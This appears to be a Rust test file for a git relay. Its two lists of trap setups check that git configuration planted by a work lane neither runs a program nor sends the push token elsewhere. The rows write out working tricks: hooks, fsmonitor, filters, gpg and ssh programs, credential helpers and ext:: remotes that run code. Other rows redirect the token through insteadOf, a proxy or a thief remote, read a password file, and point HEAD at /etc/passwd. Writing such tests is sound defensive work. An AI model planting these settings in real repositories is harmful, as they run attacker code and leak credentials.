//! Traps that make plain git run a program, or send the token elsewhere.

use super::stage::Expect::{Pushed, Refused};
use super::stage::{Row, play};

const README: &[&str] = &["README.md"];

const PROGRAMS: &[Row] = &[
    (
        "hooks of every name",
        "mkdir -p .git/hooks
         for hook in applypatch-msg pre-applypatch post-applypatch pre-commit pre-merge-commit \
             prepare-commit-msg commit-msg post-commit pre-rebase post-checkout post-merge pre-push \
             pre-receive update proc-receive post-receive post-update reference-transaction \
             push-to-checkout pre-auto-gc post-rewrite sendemail-validate fsmonitor-watchman \
             post-index-change p4-changelist p4-prepare-changelist p4-post-changelist p4-pre-submit; do
             ln -sf \"$CANARY\" .git/hooks/$hook
         done
         fires git commit -qam x",
        Pushed(README),
    ),
    (
        "core.hooksPath",
        "mkdir .git/h; ln -s \"$CANARY\" .git/h/pre-commit; git config core.hooksPath .git/h
         fires git commit -qam x",
        Pushed(README),
    ),
    (
        "core.hooksPath in the tree, by an included file",
        "mkdir h; cp \"$CANARY\" h/pre-commit; printf '[core]\\nhooksPath = h\\n' > .git/more
         git config include.path more; fires git commit -qam x",
        Pushed(&["README.md", "h/pre-commit"]),
    ),
    ("core.fsmonitor", "git config core.fsmonitor \"$CANARY\"; fires git status", Pushed(README)),
    (
        "core.fsmonitor by includeIf",
        "printf '[core]\\nfsmonitor = %s\\n' \"$CANARY\" > .git/more
         git config includeIf.gitdir:/**.path more; fires git status",
        Pushed(README),
    ),
    (
        "a filter of .gitattributes",
        "git config filter.any.clean \"$CANARY\"; git config filter.any.smudge \"$CANARY\"
         git config filter.any.required true; echo '* filter=any' > .gitattributes
         fires git add README.md",
        Pushed(&[".gitattributes", "README.md"]),
    ),
    (
        "a long-running filter of .git/info/attributes",
        "git config filter.any.process \"$CANARY\"; mkdir -p .git/info
         echo '* filter=any' > .git/info/attributes; fires git add README.md",
        Pushed(README),
    ),
    (
        "the filter of LFS",
        "git config filter.lfs.clean \"$CANARY\"; git config filter.lfs.process \"$CANARY\"
         mkdir -p .git/info; echo '*.md filter=lfs' > .git/info/attributes; fires git add README.md",
        Pushed(README),
    ),
    ("diff.external", "git config diff.external \"$CANARY\"; fires git diff", Pushed(README)),
    (
        "textconv",
        "git config diff.any.textconv \"$CANARY\"; echo '*.md diff=any' > .gitattributes
         fires git diff",
        Pushed(&[".gitattributes", "README.md"]),
    ),
    (
        "gpg.program",
        "git config commit.gpgSign true; git config gpg.program \"$CANARY\"; fires git commit -qam x",
        Pushed(README),
    ),
    (
        "signing with ssh",
        "git config commit.gpgSign true; git config gpg.format ssh
         git config user.signingKey k; git config gpg.ssh.program \"$CANARY\"
         fires git commit -qam x",
        Pushed(README),
    ),
    ("core.editor", "git config core.editor \"$CANARY\"; fires git commit -a", Pushed(README)),
    (
        "core.sshCommand",
        "git config core.sshCommand \"$CANARY\"; git config url.ssh://h/.insteadOf \"$URL\"
         fires git push \"$URL\" HEAD:refs/heads/x",
        Pushed(README),
    ),
    (
        "credential.helper and core.askPass",
        "git config credential.helper \"!$CANARY\"; git config core.askPass \"$CANARY\"
         fires git push \"$URL\" HEAD:refs/heads/x",
        Pushed(README),
    ),
    (
        "ext:: for the remote",
        "git config protocol.ext.allow always; git config \"url.ext::$CANARY .insteadOf\" \"$URL\"
         fires git push \"$URL\" HEAD:refs/heads/x",
        Pushed(README),
    ),
    (
        "receivepack and uploadpack",
        "git config remote.origin.url \"$SECRET/.git\"; git config remote.origin.receivepack \"$CANARY\"
         git config remote.origin.uploadpack \"$CANARY\"; fires git push origin HEAD:refs/heads/x",
        Pushed(README),
    ),
    (
        "a submodule's update command",
        "git init -q sub; (cd sub; git commit -q --allow-empty -m x); rm -rf sub/.git
         printf '[submodule \"s\"]\\npath = sub\\nurl = ../x\\nupdate = !%s\\n' \"$CANARY\" > .gitmodules
         git config submodule.s.update \"!$CANARY\"; git config submodule.recurse true",
        // git's own check lets no fetch bring it, so a branch with it would keep every worker out.
        Refused("unsafe_file", ".gitmodules"),
    ),
    (
        "aliases, pager, merge driver, worktree settings",
        "git config alias.add \"!$CANARY\"; git config core.pager \"$CANARY\"
         git config pager.status \"$CANARY\"; git config merge.any.driver \"$CANARY\"
         git config core.bare true; git config extensions.worktreeConfig true
         git config core.repositoryFormatVersion 99",
        Pushed(README),
    ),
];

const THEFTS: &[Row] = &[
    (
        "insteadOf",
        "git config \"url.$THIEF.insteadOf\" \"$URL\"; git push -q \"$URL\" HEAD:refs/heads/a 2>/dev/null",
        Pushed(README),
    ),
    (
        "pushInsteadOf, and a longer insteadOf",
        "git config \"url.$THIEF.pushInsteadOf\" \"$URL\"
         git config \"url.${THIEF%.git}.insteadOf\" \"${URL%.git}\"
         git push -q \"$URL\" HEAD:refs/heads/b 2>/dev/null",
        Pushed(README),
    ),
    (
        "http.proxy, and one for the URL",
        "git config http.proxy \"${THIEF%/acme*}\"; git config \"http.$URL.proxy\" \"${THIEF%/acme*}\"
         git config http.sslVerify false; git config http.cookieFile \"$SECRET/password\"
         git ls-remote \"$URL\" > /dev/null 2>&1",
        Pushed(README),
    ),
    (
        "a remote of the URL's name",
        "git config \"remote.$URL.url\" \"$THIEF\"; git config \"remote.$URL.pushurl\" \"$THIEF\"
         git push -q \"$URL\" HEAD:refs/heads/c 2>/dev/null",
        Pushed(README),
    ),
    (
        "remote.origin",
        "git config remote.origin.url \"$THIEF\"; git config remote.origin.pushurl \"$THIEF\"
         git config remote.origin.mirror true; git config remote.pushDefault origin
         git config push.default mirror; git push -q origin HEAD:refs/heads/d 2>/dev/null",
        Pushed(README),
    ),
    (
        "refs of the lane's own",
        "git commit -qam x; git branch other; git tag relay/process-row-5-6; git checkout -q -b elsewhere
         mkdir -p .git/refs/relay/fence; cp .git/refs/heads/other .git/refs/relay/fence/process-row-5-6
         echo '0000000000000000000000000000000000000000 refs/heads/bad' > .git/packed-refs
         echo 'ref: refs/heads/../../../etc/passwd' > .git/HEAD",
        Pushed(README),
    ),
];

#[tokio::test(flavor = "multi_thread")]
async fn full_no_program_that_a_lane_names_is_run() {
    play(PROGRAMS).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn full_the_token_and_the_push_go_to_the_right_place() {
    play(THEFTS).await;
}
